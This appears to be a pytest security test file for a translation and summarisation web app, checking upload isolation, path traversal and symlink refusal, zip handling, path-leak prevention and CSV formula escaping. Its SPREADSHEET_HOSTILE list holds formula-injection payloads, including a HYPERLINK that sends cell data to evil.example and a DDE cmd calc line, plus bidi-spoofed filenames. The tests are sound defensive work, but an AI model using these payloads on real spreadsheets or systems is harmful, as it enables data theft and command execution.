"""Files and paths: a visitor's request opens only what that visitor uploaded, every zip member is
summarised or reported, downloads run no formula, and no answer names a server path, host or port.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.appserver import free_port, running_app
from tests.hostile import (
    file_data,
    gradio_call,
    gradio_event,
    hostile_zip,
    upload,
)

pytest_plugins = ["tests.security_servers"]  # the open server and its client

SEED = "000_ac9cc5f60d3ec1c9.txt"  # a file of the repository, named relative to the server's folder


def test_model_list_shows_folder_names_not_paths(client: httpx.Client, memorised_ar_en: Path) -> None:
    answer = client.post("/translate", json={"q": "نص", "source": "ar", "target": "en", "model": "nope"})
    assert answer.status_code == 400
    assert memorised_ar_en.name in answer.json()["error"] and str(memorised_ar_en.parent) not in answer.text
    by_name = {"q": "نص", "source": "ar", "target": "en", "model": memorised_ar_en.name}
    assert client.post("/translate", json=by_name).status_code == 200


# --- files: only what this visitor uploaded --------------------------------------------------------


def _planted(open_server: tuple[str, Path]) -> dict[str, Path]:
    """Files a hostile request may name: outside the upload folder, inside it but not uploaded, a link."""
    tmp = open_server[1]
    secret = tmp / "secret.txt"
    secret.write_text("The secret sentence is here. It must never be read. Nobody uploaded it.\n")
    inside = tmp / "gradio" / "planted" / "inside.txt"
    inside.parent.mkdir(parents=True, exist_ok=True)
    inside.write_text(secret.read_text())
    link = inside.parent / "link.txt"
    if not link.exists():
        link.symlink_to(secret)
    return {"absolute": secret, "inside": inside, "link": link, "relative": Path("seeds") / SEED}


@pytest.mark.parametrize("which", ["absolute", "inside", "link", "relative"])
def test_batch_opens_no_file_it_was_not_given(
    client: httpx.Client, open_server: tuple[str, Path], which: str
) -> None:
    path = _planted(open_server)[which]
    kind, error = gradio_event(client, "batch", [[file_data(path)], "extractive", 3, "same", "summarize", ""])
    assert kind == "refused" and "not uploaded here" in error
    assert "secret" not in error.lower().replace(path.name, "")


@pytest.mark.parametrize("which", ["absolute", "inside", "link", "relative"])
def test_evaluation_opens_no_file_it_was_not_given(
    client: httpx.Client, open_server: tuple[str, Path], which: str
) -> None:
    path = _planted(open_server)[which]
    ours = upload(client, {"refs.txt": b"a reference line\n"})
    for hyps, refs in (([file_data(path)], ours), (ours, [file_data(path)])):
        kind, error = gradio_event(client, "evaluate_files", [hyps, refs, "mt"])
        assert kind == "refused" and "not uploaded here" in error


def test_another_visitors_upload_is_refused(client: httpx.Client, open_server: tuple[str, Path]) -> None:
    [mine] = upload(client, {"mine.txt": b"My own article. It has two sentences.\n"})
    transport = httpx.HTTPTransport(local_address="127.0.0.3")
    with httpx.Client(base_url=open_server[0], timeout=120, transport=transport) as other:
        kind, error = gradio_event(other, "batch", [[mine], "extractive", 1, "same", "summarize", ""])
    assert kind == "refused" and "not uploaded here" in error
    status, results = gradio_call(client, "batch", [[mine], "extractive", 1, "same", "summarize", ""])
    assert "1 of 1 article summarised" in status and len(results) == 3


def test_messages_name_uploads_as_the_visitor_named_them(
    client: httpx.Client, open_server: tuple[str, Path]
) -> None:
    files = upload(client, {"notext.csv": b"a,b\n1,2\n"})
    status, _ = gradio_call(client, "batch", [files, "extractive", 3, "same", "summarize", ""])
    assert "</strong>Notext.csv needs a header row" in status  # the page starts a message in capitals
    assert str(open_server[1]) not in status and "/gradio" not in status


def test_every_zip_member_is_summarised_or_reported(client: httpx.Client) -> None:
    article = "The first sentence of the article. A second sentence follows it. The third one ends it.\n"
    members = {name: article.encode() for name in ("a/b.txt", "a__b.txt", "c.txt", "../c.txt", "C.TXT")}
    members |= {"locked.txt": article.encode(), "odd.txt": article.encode(), "x" * 250 + ".txt": b"long"}
    members |= {".txt": article.encode(), "d/.TXT": article.encode(), "./.txt": article.encode()}
    archive = hostile_zip(members, encrypted="locked.txt", unknown_method="odd.txt")
    files = upload(client, {"articles.zip": archive})
    status, results = gradio_call(client, "batch", [files, "extractive", 1, "same", "summarize", ""])
    assert f"5 of {len(members)} articles summarised" in status and "6 with errors" in status
    jsonl, _, errors = (client.get(f"/gradio_api/file={r['path']}").text for r in results)
    ids = [json.loads(line)["id"] for line in jsonl.splitlines()]
    assert len(set(ids)) == 5 and len(ids) == 5 and "d__.TXT" in ids
    reasons = {json.loads(line)["where"]: json.loads(line)["reason"] for line in errors.splitlines()}
    refused = ("../c.txt", "locked.txt", "odd.txt", "x" * 250 + ".txt", ".txt", "./.txt")
    assert sorted(reasons) == sorted(f"articles.zip: {n}" for n in refused)
    assert all(reasons.values())


def test_an_article_no_model_can_translate_is_an_error_and_the_rest_go_on(
    client: httpx.Client, memorised_pairs: list[tuple[str, str]]
) -> None:
    rows = [{"id": f"ar{i}", "text": arabic} for i, (arabic, _) in enumerate(memorised_pairs[:3])]
    rows.insert(1, {"id": "en", "text": "This one is in English. The server has no English to Arabic model."})
    body = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows).encode()
    files = upload(client, {"mixed.jsonl": body})
    status, results = gradio_call(client, "batch", [files, "extractive", 3, "same", "translate", ""])
    assert "3 of 4 articles translated" in status and "1 with errors" in status, status
    jsonl, _, errors = (client.get(f"/gradio_api/file={r['path']}").text for r in results)
    assert [json.loads(line)["translation"] for line in jsonl.splitlines()] == [
        english for _, english in memorised_pairs[:3]
    ]
    [error] = [json.loads(line) for line in errors.splitlines()]
    assert error["id"] == "en" and "not available" in error["reason"]
    assert "opus-mt-tc-big-en-ar" in error["reason"]  # the en→ar default


SPREADSHEET_HOSTILE = [  # (id, text): cells a spreadsheet would run as formulas, names that hide their end
    ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Open") is how the article starts. It goes on here.'),
    ("+cmd", "+SUM(1,2) starts this article about sums. The second sentence is calm."),
    ("-2+3", "-2+3 is the first thing this article says. Then it says more."),
    ("@SUM(A1)", "@SUM(A1:A9) opens the text. Nothing else happens in it."),
    ("tab", "\t=cmd|' /C calc'!A0 hides behind a tab. The article ends here."),
    ("cr", "\r=1+2 hides behind a carriage return. The article ends here."),
    ("report\u202etxt.exe", "An article whose id hides its real end. It has two sentences."),
    ("\u2066x\u2069\u202a\u202b\u202c\u202d", "Isolates and embeddings in the id. Two sentences here."),
]


def test_batch_downloads_run_no_formula_and_show_hidden_bidi_controls(client: httpx.Client) -> None:
    body = "".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in SPREADSHEET_HOSTILE)
    files = upload(client, {"hostile.jsonl": body.encode()})
    status, results = gradio_call(client, "batch", [files, "extractive", 1, "same", "summarize", ""])
    assert f"{len(SPREADSHEET_HOSTILE)} of {len(SPREADSHEET_HOSTILE)} articles summarised" in status
    jsonl, table, errors = (client.get(f"/gradio_api/file={r['path']}").content for r in results)
    cells = [cell for row in csv.reader(io.StringIO(table.decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    ids = [row[0] for row in csv.reader(io.StringIO(table.decode("utf-8-sig")))][1:]
    assert ids[:4] == ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)"] and "report<U+202E>txt.exe" in ids
    assert "<U+2066>x<U+2069><U+202A><U+202B><U+202C><U+202D>" in ids
    for download in (jsonl, table, errors):
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", download.decode("utf-8-sig"))


def _downloads(client: httpx.Client, outputs: list[Any]) -> list[bytes]:
    """Every file among a page event's outputs (a ``report.zip``: each of its members)."""
    found: list[bytes] = []
    for output in outputs:
        for item in output if isinstance(output, list) else [output]:
            if isinstance(item, dict) and "path" in item:
                data = client.get(f"/gradio_api/file={item['path']}").content
                if item["path"].endswith(".zip"):
                    with zipfile.ZipFile(io.BytesIO(data)) as zipped:
                        found += [zipped.read(name) for name in zipped.namelist()]
                else:
                    found.append(data)
    return found


def _translate(client: httpx.Client, arabic: list[str]) -> list[Any]:
    return gradio_call(client, "translate", [arabic[0], "ar-en", ""])


def _batch(job: str, to: str) -> Any:
    def call(client: httpx.Client, arabic: list[str]) -> list[Any]:
        body = "".join(
            json.dumps({"id": f"a{i}", "text": t}, ensure_ascii=False) + "\n" for i, t in enumerate(arabic)
        )
        files = upload(client, {"articles.jsonl": body.encode()})
        return gradio_call(client, "batch", [files, "extractive", 1, to, job, ""])

    return call


def _testset(client: httpx.Client, arabic: list[str]) -> list[Any]:
    return gradio_call(client, "evaluate_testset", ["tatoeba", "ar-en", "", 5, "extractive"])


def _same_stem(client: httpx.Client, arabic: list[str]) -> list[Any]:
    hyps = upload(client, {"hyp.txt": b"one line\ntwo lines\n"})
    hyps += upload(client, {"hyp.jsonl": b'"one line"\n"two line"\n'})
    refs = upload(client, {"ref.txt": b"one line\ntwo lines\n"})
    outputs = gradio_call(client, "evaluate_files", [hyps, refs, "mt"])
    assert "hyp.txt" in outputs[1] and "hyp.jsonl" in outputs[1], outputs[0]
    return outputs


VISITORS_GET = {  # page events whose outputs once named the --mt-model folder or an upload's folder
    "translate .json": _translate,
    "translation batch": _batch("translate", "same"),
    "summary batch into English": _batch("summarize", "en"),
    "test set report": _testset,
    "two systems with one stem": _same_stem,
}


@pytest.mark.parametrize("event", VISITORS_GET.values(), ids=VISITORS_GET.keys())
def test_no_output_a_visitor_gets_names_a_server_path(
    client: httpx.Client,
    open_server: tuple[str, Path],
    memorised_ar_en: Path,
    memorised_pairs: list[tuple[str, str]],
    event: Any,
) -> None:
    outputs = event(client, [arabic for arabic, _ in memorised_pairs[:3]])
    texts = [str(output) for output in outputs if not isinstance(output, dict | list)]
    texts += [data.decode("utf-8", "replace") for data in _downloads(client, outputs)]
    assert len(texts) > len(outputs) - 2  # the event wrote its downloads
    for text in texts:
        for path in (str(open_server[1]), str(memorised_ar_en.parent), "/gradio/"):
            assert path not in text, text[:2000]


def test_the_cache_reason_names_no_host_or_port(memorised_ar_en: Path, tmp_path: Path) -> None:
    port = free_port()  # nobody listens: the cache is down from the start
    env = {"TARJAMA_CACHE": f"redis://127.0.0.1:{port}/0"}
    with running_app(["--mt-model", str(memorised_ar_en)], tmp_path, env) as url:
        health = httpx.get(f"{url}/health", timeout=60)
        answer = httpx.post(f"{url}/detect", json={"q": "hello"}, timeout=60)
    assert health.status_code == 503 and health.json()["cache"]["reason"]
    reason = answer.headers["X-Tarjama-Cache-Reason"]
    assert reason and str(port) not in reason + health.text and "127.0.0.1" not in reason + health.text
    assert str(port) in (tmp_path / "server.log").read_text()  # the details are in the log
